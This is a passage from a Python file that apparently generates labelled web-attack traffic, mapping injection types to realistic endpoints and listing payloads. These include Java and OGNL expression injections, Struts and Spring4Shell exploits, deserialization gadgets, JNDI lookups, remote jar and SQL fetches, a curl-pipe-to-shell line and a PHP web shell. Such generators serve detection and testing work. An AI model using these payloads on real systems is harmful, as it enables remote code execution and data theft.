            ("/index.php", [("page", "edit"), ("content", P)]),
        ],
        hdr=["User-Agent", "X-Forwarded-For", "Referer", "X-Debug-Code", "Accept-Language"],
        hpath=["/index.php", "/wp-login.php", "/admin/index.php", "/"],
        cookie=["cart", "user_prefs", "wp_session", "remember_token"],
        mp=[
            (
                "/wp-admin/async-upload.php",
                {
                    "fields": [("action", "upload-attachment"), ("post_id", "0")],
                    "field": "name",
                    "file": ("async-upload", "image.php", "application/x-php", "x"),
                },
            ),
            (
                "/upload.php",
                {
                    "fields": [("album", "holiday")],
                    "field": "title",
                    "file": ("photo", "IMG_1042.jpg", "image/jpeg", "JFIF"),
                },
            ),
        ],
        xml=[
            (
                "/xmlrpc.php",
                '<?xml version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>{}</string></value></param></params></methodCall>',
            )
        ],
        xmlpath=["/xmlrpc.php"],
    ),
    "code_injection": dict(
        q=[
            ("/api/v1/calc", "expr", []),
            ("/debug/eval", "code", []),
            ("/api/v1/report", "formula", [("fmt", "csv")]),
            ("/render", "template_fn", []),
            ("/api/v1/sort", "key", [("dir", "asc")]),
        ],
        path=["/api/v1/eval/{}", "/sandbox/run/{}", "/api/v1/metrics/{}/compute"],
        json=[
            ("POST", "/api/v1/formulas/evaluate", {"sheet": "Q4", "cell": "C7", "formula": P}),
            ("POST", "/api/v1/plugins/run", {"plugin": "transform", "code": P, "timeout": 5}),
            ("POST", "/api/v1/profile", {"name": P, "bio": "hi"}),
            ("PUT", "/api/v1/alerts/44", {"condition": P, "notify": ["ops"]}),
        ],
        form=[
            ("/calculator", [("expression", P), ("precision", "2")]),
            ("/admin/console", [("cmd", P)]),
            ("/feedback", [("rating", "4"), ("comment", P)]),
        ],
        hdr=["User-Agent", "X-Filter", "Referer", "X-Sort-Key"],
        hpath=["/", "/api/v1/ping", "/admin", "/api/v1/report"],
        cookie=["session_data", "prefs", "state", "profile"],
        mp=[
            (
                "/api/v1/notebooks/upload",
                {
                    "fields": [("kernel", "python3")],
                    "field": "cell",
                    "file": ("file", "config.yaml", "application/x-yaml", "a: 1\n"),
                },
            )
        ],
        xml=[("/api/v1/rules.xml", '<?xml version="1.0"?><rule name="threshold"><expr>{}</expr></rule>')],
        xmlpath=["/api/v1/rules.xml"],
    ),
    "rfi": dict(
        q=[
            ("/index.php", "page", []),
            ("/view.php", "file", [("lang", "en")]),
            ("/main.php", "include", []),
            ("/template.php", "tpl", [("id", "9")]),
            ("/modules.php", "mod", [("op", "show")]),
        ],
        path=["/index.php/page/{}", "/load/{}", "/render/{}"],
        json=[
            ("POST", "/api/v1/themes/import", {"name": "summer", "source_url": P}),
            ("PUT", "/api/v1/pages/home", {"layout": P, "published": True}),
            ("POST", "/api/v1/render", {"template": P, "data": {"user": "ana"}}),
        ],
        form=[("/admin/settings.php", [("header_include", P), ("save", "1")]), ("/index.php", [("page", P)])],
        hdr=["X-Template-Url", "Referer", "X-Include-Path"],
        hpath=["/index.php", "/home.php"],
        cookie=["lang", "template", "skin"],
        mp=[("/admin/import.php", {"fields": [("type", "theme")], "field": "remote_url"})],
        xml=[("/api/v1/site.xml", '<?xml version="1.0"?><site><header>{}</header></site>')],
    ),
    "ssrf": dict(
        q=[
            ("/api/v1/fetch", "url", []),
            ("/proxy", "target", []),
            ("/image/resize", "src", [("w", "320"), ("h", "240")]),
            ("/api/v1/preview", "link", []),
            ("/oembed", "url", [("format", "json")]),
            ("/pdf/render", "page", [("paper", "A4")]),
        ],
        path=["/proxy/{}", "/fetch/{}", "/api/v1/avatar/remote/{}"],
        json=[
            ("POST", "/api/v1/webhooks", {"name": "deploy-notify", "url": P, "events": ["push"], "active": True}),
            ("POST", "/api/v1/import/url", {"source": P, "format": "csv"}),
            ("PUT", "/api/v1/users/me/avatar", {"avatar_url": P}),
            ("POST", "/api/v1/link-preview", {"url": P}),
        ],
        form=[
            ("/settings/webhooks", [("callback_url", P), ("secret", "whsec_" + "x7Kd92Lm"), ("save", "1")]),
            ("/tools/check-link", [("url", P)]),
        ],
        hdr=["X-Callback-Url", "Referer", "X-Forwarded-Host", "X-Original-URL", "X-Wap-Profile"],
        hpath=["/", "/api/v1/fetch", "/analytics/collect"],
        cookie=["redirect_to", "avatar_src", "feed_url"],
        mp=[("/api/v1/import", {"fields": [("format", "ics")], "field": "source_url"})],
        xml=[
            ("/api/v1/feeds", '<?xml version="1.0"?><feed><title>Partner news</title><url>{}</url></feed>'),
            (
                "/soap/ImageService",
                '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Fetch><ImageUrl>{}</ImageUrl></Fetch></soap:Body></soap:Envelope>',
            ),
        ],
    ),
    "rce": dict(
        q=[
            ("/cgi-bin/ping.cgi", "host", []),
            ("/api/v1/diagnostics/traceroute", "target", []),
            ("/tools/dns", "domain", [("type", "A")]),
            ("/convert", "filename", [("to", "pdf")]),
            ("/api/v1/backup", "name", []),
        ],
        path=["/cgi-bin/{}", "/api/v1/devices/{}/reboot", "/download/{}"],
        json=[
            ("POST", "/api/v1/network/ping", {"host": P, "count": 4}),
            ("POST", "/api/v1/media/convert", {"input": P, "format": "mp4"}),
            ("POST", "/api/v1/git/clone", {"repo": P, "branch": "main"}),
        ],
        form=[
            ("/admin/diagnostics", [("ip", P), ("action", "ping")]),
            ("/router/apply.cgi", [("submit_button", "Diagnostics"), ("ping_ip", P)]),
        ],
        hdr=["User-Agent", "Referer", "X-Forwarded-For", "Cookie-Test"],
        hpath=["/cgi-bin/status", "/cgi-bin/test.cgi", "/"],
        cookie=["device", "hostname", "locale"],
        mp=[
            (
                "/api/v1/convert",
                {"fields": [("target", "png")], "field": "options", "file": ("file", "scan.tiff", "image/tiff", "II*")},
            )
        ],
        xml=[("/api/v1/jobs.xml", '<?xml version="1.0"?><job><name>nightly</name><command>{}</command></job>')],
    ),
    "sqli": dict(
        q=[
            ("/api/v1/products", "sort", [("page", "2")]),
            ("/search", "q", []),
            ("/api/v2/orders", "status", [("limit", "25")]),
            ("/item.php", "id", []),
            ("/reports/export", "from", [("to", "2026-11-30")]),
            ("/api/v1/users", "order_by", []),
        ],
        path=["/api/v1/users/{}", "/catalog/category/{}/items", "/api/v1/invoices/{}/pdf", "/news/{}"],
        json=[
            ("POST", "/api/v1/auth/login", {"username": P, "password": "Winter2026!", "remember": True}),
            ("POST", "/api/v1/products/search", {"filter": {"name": P}, "page": 1, "limit": 25}),
            ("PATCH", "/api/v1/orders/5512", {"note": P}),
            ("POST", "/api/v1/reports", {"group_by": P, "metric": "revenue"}),
        ],
        form=[
            ("/login", [("username", P), ("password", "hunter2pass")]),
            ("/account/lookup", [("email", P)]),
            ("/search", [("q", P), ("cat", "all")]),
        ],
        hdr=["X-Forwarded-For", "User-Agent", "Referer", "X-Tenant-ID", "X-Api-Version"],
        hpath=["/", "/api/v1/me", "/index.php"],
        cookie=["session_user", "tracking_id", "cart_id", "lang"],
        mp=[
            (
                "/api/v1/import",
                {
                    "fields": [("table", "contacts")],
                    "field": "sheet_name",
                    "file": ("file", "contacts.csv", "text/csv", "name,email\nAna,ana@example.org\n"),
                },
            )
        ],
        xml=[
            (
                "/soap/OrderService",
                '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><OrderId>{}</OrderId></GetOrder></soap:Body></soap:Envelope>',
            )
        ],
    ),
    "nosqli": dict(
        q=[
            ("/api/v1/users", "username", []),
            ("/api/v1/products", "where", []),
            ("/login", "user", []),
            ("/api/v1/orders", "filter", [("limit", "10")]),
        ],
        path=["/api/v1/users/{}", "/api/v1/accounts/{}/profile"],
        json=[
            ("POST", "/api/v1/auth/login", {"username": "admin", "password": P}),
            ("POST", "/api/v1/users/find", {"email": P}),
            ("POST", "/api/v1/products/query", {"filter": {"price": P}, "limit": 20}),
            ("POST", "/api/v1/aggregate", {"collection": "orders", "pipeline": P}),
        ],
        form=[("/login", [("username", "admin"), ("password", P)]), ("/reset", [("email", P)])],
        hdr=["X-Filter", "X-Query", "User-Agent", "X-Forwarded-For"],
        hpath=["/api/v1/users", "/api/v1/search"],
        cookie=["session", "user", "filter"],
        mp=[("/api/v1/import", {"fields": [("collection", "users")], "field": "query"})],
        xml=[("/api/v1/users.xml", '<?xml version="1.0"?><query><username>{}</username></query>')],
    ),
    "ldapi": dict(
        q=[
            ("/directory/search", "name", []),
            ("/api/v1/people", "cn", [("attrs", "mail,telephoneNumber")]),
            ("/ldap/lookup", "uid", []),
            ("/api/v1/groups", "member", []),
        ],
        path=["/api/v1/people/{}", "/directory/users/{}/photo"],
        json=[
            ("POST", "/api/v1/auth/ldap", {"username": P, "password": "Spring2026#"}),
            ("POST", "/api/v1/directory/search", {"filter": P, "base": "ou=people,dc=corp,dc=example", "size": 50}),
            ("POST", "/api/v1/groups/resolve", {"group": P}),
        ],
        form=[("/login", [("user", P), ("pass", "Pa55word1")]), ("/directory", [("search", P), ("dept", "all")])],
        hdr=["X-Remote-User", "X-Forwarded-User", "User-Agent", "X-Auth-Username"],
        hpath=["/directory", "/api/v1/me"],
        cookie=["dir_user", "last_lookup"],
        mp=[("/api/v1/directory/bulk", {"fields": [("base", "dc=corp,dc=example")], "field": "filter"})],
        xml=[
            (
                "/soap/Directory",
                '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Lookup><Uid>{}</Uid></Lookup></soap:Body></soap:Envelope>',
            )
        ],
    ),
    "ssti": dict(
        q=[
            ("/greet", "name", []),
            ("/preview", "template", []),
            ("/api/v1/render", "subject", [("lang", "en")]),
            ("/error", "msg", []),
            ("/search", "q", []),
        ],
        path=["/hello/{}", "/preview/{}", "/u/{}"],
        json=[
            ("POST", "/api/v1/email-templates/preview", {"subject": P, "body": "Hi there", "locale": "en"}),
            ("PUT", "/api/v1/profile", {"nickname": P}),
            ("POST", "/api/v1/notifications/test", {"channel": "email", "template": P}),
        ],
        form=[("/newsletter/preview", [("subject", P), ("list", "customers")]), ("/profile", [("display_name", P)])],
        hdr=["User-Agent", "Referer", "X-Template", "Accept-Language"],
        hpath=["/", "/welcome"],
        cookie=["username", "theme", "greeting"],
        mp=[
            (
                "/api/v1/themes/upload",
                {
                    "fields": [("name", "winter")],
                    "field": "footer",
                    "file": ("template", "footer.html", "text/html", "<p>(c)</p>"),
                },
            )
        ],
        xml=[("/api/v1/templates.xml", '<?xml version="1.0"?><template id="welcome"><subject>{}</subject></template>')],
    ),
    "crlf": dict(
        q=[
            ("/login", "next", []),
            ("/redirect", "url", []),
            ("/logout", "return_to", []),
            ("/set-lang", "lang", []),
            ("/download", "filename", [("id", "88")]),
        ],
        path=["/r/{}", "/en/{}/index.html", "/go/{}"],
        json=[
            ("POST", "/api/v1/redirects", {"from": "/old", "to": P, "code": 301}),
            ("POST", "/api/v1/auth/authorize", {"client_id": "web", "redirect_uri": P}),
            ("PUT", "/api/v1/files/88", {"download_name": P}),
        ],
        form=[
            ("/login", [("username", "ana"), ("password", "pw-Example-9"), ("next", P)]),
            ("/settings/locale", [("lang", P)]),
        ],
        hdr=["X-Forwarded-Host", "Referer", "User-Agent", "X-Forwarded-Proto", "X-Original-URL"],
        hpath=["/", "/login"],
        cookie=["lang", "return_url", "ref"],
        mp=[
            (
                "/api/v1/attachments",
                {
                    "fields": [("ticket", "3321")],
                    "field": "display_name",
                    "file": ("file", "screenshot.png", "image/png", "PNG"),
                },
            )
        ],
        xml=[("/api/v1/redirects.xml", '<?xml version="1.0"?><redirect><from>/promo</from><to>{}</to></redirect>')],
    ),
    "mail_injection": dict(
        q=[("/newsletter/subscribe", "email", []), ("/share", "to", [("item", "5521")]), ("/contact", "subject", [])],
        path=["/invite/{}", "/unsubscribe/{}"],
        json=[
            ("POST", "/api/v1/contact", {"name": "Chris", "email": P, "subject": "Order question", "message": "Hi"}),
            ("POST", "/api/v1/share/email", {"to": P, "item_id": 771}),
            ("POST", "/api/v1/support/tickets", {"from": "buyer@example.org", "subject": P, "body": "See title"}),
            ("POST", "/api/v1/invitations", {"emails": [P], "role": "viewer"}),
        ],
        form=[
            (
                "/contact",
                [("name", "Dana"), ("email", P), ("subject", "Hello"), ("message", "Question about shipping")],
            ),
            ("/contact", [("name", "Dana"), ("email", "dana@mail.example"), ("subject", P), ("message", "Hi")]),
            ("/tell-a-friend", [("friend_email", P), ("note", "Look at this")]),
        ],
        hdr=["X-Reply-To", "X-Mail-From", "Referer"],
        hpath=["/contact", "/api/v1/notify"],
        cookie=["mail_from", "last_email"],
        mp=[
            (
                "/careers/apply",
                {
                    "fields": [("name", "Lee Park"), ("position", "Backend Engineer")],
                    "field": "email",
                    "file": ("cv", "cv.pdf", "application/pdf", "%PDF-1.7"),
                },
            )
        ],
        xml=[("/api/v1/mail.xml", '<?xml version="1.0"?><message><to>{}</to><subject>Welcome</subject></message>')],
    ),
    "xss": dict(
        q=[
            ("/search", "q", []),
            ("/error", "message", []),
            ("/profile", "name", []),
            ("/login", "return", []),
            ("/api/v1/widget", "callback", []),
        ],
        path=["/u/{}", "/search/{}", "/tag/{}"],
        json=[
            ("POST", "/api/v1/comments", {"post_id": 981, "body": P}),
            ("PUT", "/api/v1/profile", {"display_name": P, "bio": "hello"}),
            ("POST", "/api/v1/products/22/reviews", {"rating": 5, "title": P, "text": "great"}),
        ],
        form=[("/guestbook", [("name", "Kim"), ("message", P)]), ("/profile/edit", [("website", P)])],
        hdr=["Referer", "User-Agent", "X-Forwarded-Host", "X-Page-Title"],
        hpath=["/", "/analytics/hit"],
        cookie=["username", "last_query", "flash"],
        mp=[
            (
                "/api/v1/media",
                {
                    "fields": [("album", "2026")],
                    "field": "alt_text",
                    "file": ("file", "avatar.svg", "image/svg+xml", "<svg/>"),
                },
            )
        ],
        xml=[("/api/v1/posts.xml", '<?xml version="1.0"?><post><title>{}</title><status>draft</status></post>')],
    ),
    "path_traversal": dict(
        q=[
            ("/download", "file", []),
            ("/api/v1/docs", "path", []),
            ("/view", "page", [("lang", "en")]),
            ("/image", "name", [("size", "thumb")]),
            ("/api/v1/logs", "log", []),
        ],
        path=["/static/{}", "/files/{}", "/assets/{}", "/api/v1/templates/{}"],
        json=[
            ("POST", "/api/v1/export", {"template": P, "format": "pdf"}),
            ("POST", "/api/v1/files/read", {"path": P}),
            ("PUT", "/api/v1/themes/current", {"stylesheet": P}),
        ],
        form=[("/admin/logs", [("file", P), ("lines", "200")]), ("/download", [("doc", P)])],
        hdr=["X-Original-URL", "X-Rewrite-URL", "X-File-Name", "Referer"],
        hpath=["/", "/download"],
        cookie=["lang", "template", "theme"],
        mp=[
            (
                "/api/v1/upload",
                {"fields": [("folder", "avatars")], "field": "target", "file": ("file", "a.png", "image/png", "PNG")},
            )
        ],
        xml=[("/api/v1/render.xml", '<?xml version="1.0"?><render><template>{}</template></render>')],
    ),
    "xxe": dict(
        q=[("/api/v1/parse", "xml", []), ("/import", "data", [("format", "xml")])],
        json=[
            ("POST", "/api/v1/integrations/import", {"format": "xml", "document": P}),
            ("POST", "/api/v1/invoices/ubl", {"ubl": P, "tenant": "acme"}),
        ],
        form=[("/saml/acs", [("SAMLResponse", P), ("RelayState", "/dashboard")]), ("/api/parse", [("xml", P)])],
        mp=[
            (
                "/api/v1/import",
                {"fields": [("type", "products")], "field": "xml", "file": ("file", "feed.xml", "application/xml", "")},
            ),
            (
                "/profile/avatar",
                {"fields": [("user", "8812")], "field": "meta", "file": ("avatar", "avatar.svg", "image/svg+xml", "")},
            ),
        ],
        xmlpath=[
            "/api/v1/orders",
            "/soap/InvoiceService",
            "/xmlrpc.php",
            "/api/feeds/ingest",
            "/webdav/docs/",
            "/api/v1/import",
            "/sitemap/submit",
            "/api/v2/gpx/upload",
        ],
    ),
    "log4shell": dict(
        q=[
            ("/api/v1/search", "q", []),
            ("/login", "username", []),
            ("/solr/admin/cores", "action", []),
            ("/", "x", []),
        ],
        path=["/api/v1/users/{}", "/{}", "/hello/{}"],
        json=[
            ("POST", "/api/v1/auth/login", {"username": P, "password": "whatever1"}),
            ("POST", "/api/v1/events", {"type": "page_view", "label": P}),
            ("PUT", "/api/v1/devices/9", {"name": P}),
        ],
        form=[("/login", [("username", P), ("password", "pw")]), ("/feedback", [("msg", P)])],
        hdr=[
            "User-Agent",
            "X-Api-Version",
            "Referer",
            "X-Forwarded-For",
            "True-Client-IP",
            "X-Client-IP",
            "Origin",
            "Authorization",
            "Accept-Language",
            "CF-Connecting-IP",
            "Contact",
            "X-Requested-With",
            "If-Modified-Since",
        ],
        hpath=["/", "/api/v1/health", "/login", "/solr/", "/webtools/control/main"],
        cookie=["JSESSIONID", "remember", "lang", "user"],
        mp=[
            (
                "/api/v1/upload",
                {"fields": [("title", "scan")], "field": "comment", "file": ("file", "a.txt", "text/plain", "x")},
            )
        ],
        xml=[("/soap/Logger", '<?xml version="1.0"?><event><user>{}</user></event>')],
    ),
}


CYCLES = {
    "java_injection": [
        "query",
        "json",
        "header",
        "form",
        "path",
        "cookie",
        "json_deep",
        "mp_field",
        "xml",
        "query_key",
        "json_key",
        "mp_file",
        "form_key",
    ],
    "php_injection": [
        "query",
        "form",
        "mp_file",
        "cookie",
        "json",
        "header",
        "path",
        "json_deep",
        "xml",
        "query_key",
        "form_key",
        "mp_field",
        "json_key",
        "mp_filename",
    ],
    "code_injection": [
        "query",
        "json",
        "form",
        "header",
        "cookie",
        "path",
        "json_deep",
        "mp_field",
        "xml",
        "query_key",
        "json_key",
        "form_key",
        "mp_file",
    ],
    "rfi": ["query", "form", "json", "cookie", "path", "query", "header", "json_deep", "xml", "mp_field"],
    "ssrf": ["query", "json", "form", "header", "json_deep", "xml", "query", "mp_field", "cookie", "path"],
    "rce": [
        "query",
        "form",
        "json",
        "header",
        "cookie",
        "path",
        "mp_filename",
        "mp_field",
        "json_deep",
        "xml",
        "query_key",
        "json_key",
    ],
    "sqli": [
        "query",
        "json",
        "form",
        "header",
        "cookie",
        "path",
        "json_deep",
        "query_key",
        "json_key",
        "form_key",
        "mp_field",
        "xml",
    ],
    "nosqli": ["json", "query", "form", "cookie", "header", "json_deep", "path", "mp_field", "xml"],
    "ldapi": ["query", "form", "json", "header", "cookie", "json_deep", "xml", "mp_field", "path", "query_key"],
    "ssti": [
        "query",
        "json",
        "form",
        "path",
        "header",
        "cookie",
        "json_deep",
        "mp_field",
        "mp_file",
        "xml",
        "json_key",
    ],
    "crlf": ["query", "path", "header", "cookie", "json", "form", "mp_field", "xml", "json_deep", "query_key"],
    "mail_injection": ["form", "json", "query", "mp_field", "json_deep", "xml", "header", "cookie", "path"],
    "xss": [
        "query",
        "json",
        "form",
        "header",
        "cookie",
        "path",
        "json_deep",
        "mp_field",
        "mp_file",
        "xml",
        "query_key",
        "json_key",
        "mp_filename",
        "form_key",
    ],
    "path_traversal": [
        "path",
        "query",
        "json",
        "form",
        "cookie",
        "header",
        "mp_filename",
        "json_deep",
        "xml",
        "mp_field",
    ],
    "xxe": ["xml_doc", "xml_doc", "mp_file", "xml_doc", "json", "form", "xml_doc", "query", "mp_field"],
    "log4shell": [
        "header",
        "query",
        "json",
        "form",
        "header",
        "cookie",
        "path",
        "json_key",
        "json_deep",
        "mp_field",
        "xml",
        "query_key",
        "header",
    ],
}


def choose_spec(cat, at, kw):
    ctx = dict(GENERIC)
    ctx.update(CTX[cat])
    spec = {}
    if at in ("query", "query_key"):
        path, param, extra = pick(ctx["q"])
        spec.update(path=path, param=param, extra_q=extra)
    elif at == "path":
        spec["path"] = pick(ctx["path"])
    elif at in ("json", "json_deep", "json_key", "json_key_deep"):
        m, path, tpl = pick(ctx["json"])
        spec.update(method=m, path=path, json=tpl)
    elif at in ("form", "form_key"):
        path, tpl = pick(ctx["form"])
        spec.update(path=path, form=tpl)
    elif at in ("header", "cookie"):
        spec["path"] = pick(ctx["hpath"])
        if at == "header":
            spec["hdr"] = pick(ctx["hdr"])
        else:
            spec["cookie"] = pick(ctx["cookie"])
    elif at in ("mp_field", "mp_file", "mp_filename"):
        path, mp = pick(ctx["mp"])
        mp = dict(mp)
        if "file" not in mp or at != "mp_field":
            mp.setdefault("file", ("file", "upload.bin", "application/octet-stream", "data"))
        spec.update(path=path, mp=mp)
    elif at == "xml":
        path, tpl = pick(ctx["xml"])
        spec.update(path=path, xml=tpl)
    elif at == "xml_doc":
        spec["path"] = pick(ctx["xmlpath"])
    mp_over = {k: kw[k] for k in ("fn", "ctype_file", "field", "content") if k in kw}
    if mp_over and "mp" in spec:
        mp = dict(spec["mp"])
        n, fn, ct, content = mp.get("file", ("file", "upload.bin", "application/octet-stream", "data"))
        mp["file"] = (n, mp_over.get("fn", fn), mp_over.get("ctype_file", ct), mp_over.get("content", content))
        if "field" in mp_over:
            mp["field"] = mp_over["field"]
        spec["mp"] = mp
    for k, v in kw.items():
        if k not in ("fn", "ctype_file", "field", "content"):
            spec[k] = v
    return spec


# --------------------------------------------------------------------------
# attack payloads (composed by hand)
# --------------------------------------------------------------------------


def java_ser(classes):
    out = b"\xac\xed\x00\x05"
    for i, cn in enumerate(classes):
        c = cn.encode()
        out += b"sr\x00" + bytes([len(c)]) + c + rbytes(8) + b"\x02\x00\x02L\x00\x0bfieldName" + bytes([i])
        out += b"t\x00\x12Ljava/lang/Object;xp"
    out += b"t\x00\x04exect\x00\x09/bin/sh -c idx"
    return out


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def php_obj(cls, props):
    body = "".join(php_s(k) + v for k, v in props)
    return 'O:%d:"%s":%d:{%s}' % (len(cls), cls, len(props), body)


SER_CC = java_ser(["org.apache.commons.collections.functors.InvokerTransformer", "java.util.PriorityQueue"])
SER_BU = java_ser(
    ["org.apache.commons.beanutils.BeanComparator", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"]
)
SER_SP = java_ser(
    ["org.springframework.beans.factory.ObjectFactory", "sun.reflect.annotation.AnnotationInvocationHandler"]
)

JAVA = [
    E("%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    E(
        "${#context['xwork.MethodAccessor.denyMethodExecution']=false,#rt=@java.lang.Runtime@getRuntime(),#rt.exec('whoami')}"
    ),
    E("#{T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}"),
    E('T(java.lang.Runtime).getRuntime().exec(new String[]{"sh","-c","curl -s http://203.0.113.45/j.sh|sh"})'),
    E("${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('uname -a')}"),
    E(
        "#{''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}"
    ),
    E('new java.lang.ProcessBuilder(new String[]{"bash","-c","id"}).start()'),
    E('"id".execute().text', "form", form=[("script", P), ("lang", "groovy")], path="/script"),
    E("def p = ['sh','-c','uname -a'].execute(); p.waitFor(); println p.text", "json"),
    E('java.lang.Runtime.getRuntime().exec("nslookup j7q.oast-c2.net")'),
    E("@java.lang.Runtime@getRuntime().exec('touch /tmp/ognl')"),
    E(
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())}",
        "header",
        hdr="Content-Type",
        method="POST",
        path="/struts2-showcase/fileupload/upload.action",
    ),
    E(b64(SER_CC), "cookie", cookie="rememberMe"),
    E(
        ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://203.0.113.9:1389/Exploit", "autoCommit": True}],
        "json",
    ),
    E(
        {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://198.51.100.7:1099/Obj", "autoCommit": True},
        "json",
    ),
    E(
        '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>bash</string><string>-c</string><string>id &gt; /tmp/xs</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
        "xml_doc",
        ctype="application/xml",
        path="/api/v1/xstream/import",
    ),
    E(
        '<?xml version="1.0" encoding="UTF-8"?>\n<java version="1.8.0_151" class="java.beans.XMLDecoder">\n  <object class="java.lang.ProcessBuilder">\n    <array class="java.lang.String" length="3">\n      <void index="0"><string>/bin/sh</string></void>\n      <void index="1"><string>-c</string></void>\n      <void index="2"><string>id</string></void>\n    </array>\n    <void method="start"/>\n  </object>\n</java>',
        "xml_doc",
        ctype="text/xml",
        path="/wls-wsat/CoordinatorPortType",
    ),
    E(
        "${pageContext.servletContext.getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null)}"
    ),
    E("@{java.lang.Runtime.getRuntime().exec('hostname')}"),
    E(
        'Class.forName("java.lang.Runtime").getMethod("exec",String.class).invoke(Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null),"id")'
    ),
    E(
        'new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("java.lang.Runtime.getRuntime().exec(\'id\')")'
    ),
    E(
        'T(java.lang.Runtime).getRuntime().exec("touch /tmp/scf")',
        "header",
        hdr="spring.cloud.function.routing-expression",
        method="POST",
        path="/functionRouter",
    ),
    E(
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        "form_key",
        kval='%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); } %{suffix}i',
    ),
    E("class.module.classLoader.resources.context.parent.pipeline.first.suffix", "query_key", kval=".jsp"),
    E("redirect:${#a=new java.lang.ProcessBuilder({'id'}).start()}", "query_key", path="/index.action"),
    E("action:%{#a=@java.lang.Runtime@getRuntime().exec('ls')}", "query_key", path="/login.action"),
    E(
        '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}',
        "path",
        path="/{}/",
    ),
    E(
        '!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL ["http://198.51.100.23:8000/yaml-payload.jar"]\n  ]]\n]\n',
        "mp_file",
        fn="application.yml",
    ),
    E(
        "jdbc:h2:mem:tempdb;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.40:8000/poc.sql'",
        "json",
        json={"name": "reporting", "driver": "org.h2.Driver", "url": P},
        path="/api/v1/datasources",
    ),
    E(
        "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).useDelimiter('\\\\A').next()}"
    ),
    H(
        "T(java.lang.Class).forName('java.la'+'ng.Run'+'time').getMethod('ex'+'ec',T(String)).invoke(T(java.lang.Class).forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')"
    ),
    H("T (java.lang.Runtime) . getRuntime ( ) . exec ( 'id' )"),
    H(
        r'${"".getClass().forName("\u006a\u0061\u0076\u0061.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}',
        "json",
    ),
    H("T(java.lang.Runtime).getRuntime().exec(new java.lang.String(new byte[]{105,100}))"),
    H(
        "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))"
    ),
    H("T(java.lang.Runtime).getRuntime().exec(new String(T(java.util.Base64).getDecoder().decode('d2hvYW1p')))"),
    H("%24%7BT%28java.lang.Runtime%29.getRuntime%28%29.exec%28%27id%27%29%7D", "query"),
    H("%u0024%u007bT(java.lang.Runtime).getRuntime().exec(%27hostname%27)%u007d"),
    H(
        r"(\u0023_memberAccess[\u0027allowStaticMethodAccess\u0027]=true)(\u0023rt=@java.lang.Runtime@getRuntime(),\u0023rt.exec(\u0027id\u0027))",
        "query_key",
        path="/login.action",
    ),
    H("['c'+'at','/etc/hostname'].execute().text"),
    H('Eval.me(\'"who"+"ami"\').execute().text'),
    H(
        {"@type": "org.apache.xbean.propertyeditor.JndiConverter", "AsText": "ldap://198.51.100.31:1389/jndi"},
        "json",
        jmode="esc",
    ),
    H(SER_BU.hex(), "form"),
    H(b64(SER_SP, urlsafe=True, pad=False), "cookie", cookie="session_state"),
    H("${T(java.lang.Runtime).getRuntime().exec('i'.concat('d'))}"),
    H('%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"who"+"ami"})).redirectErrorStream(true).start()}'),
    H("${''.getClass().forName('java.lang.'.concat('Runtime')).getMethods()[6].invoke(null).exec('id')}"),
    H("T(java.lang.Runtime)\n.getRuntime()\n.exec('id')"),
    H("T(java.lang.System).getenv()", "json", jmode="esc"),
    H("%25%7B%28%23rt%3D%40java.lang.Runtime%40getRuntime%28%29%29.%28%23rt.exec%28%27id%27%29%29%7D"),
]

PHP = [
    E("<?php system($_GET['c']); ?>", "mp_file", fn="shell.php", ctype_file="application/x-php"),
    E(";phpinfo();//"),
    E("${@eval($_POST[1])}"),
    E("system('cat /etc/passwd');"),
    E("eval(base64_decode('%s'));" % b64("system('id');")),
    E("assert('passthru(\"uname -a\")');"),
    E("preg_replace('/.*/e','system(\"id\")','x')"),
    E("create_function('','system(\"whoami\");')"),
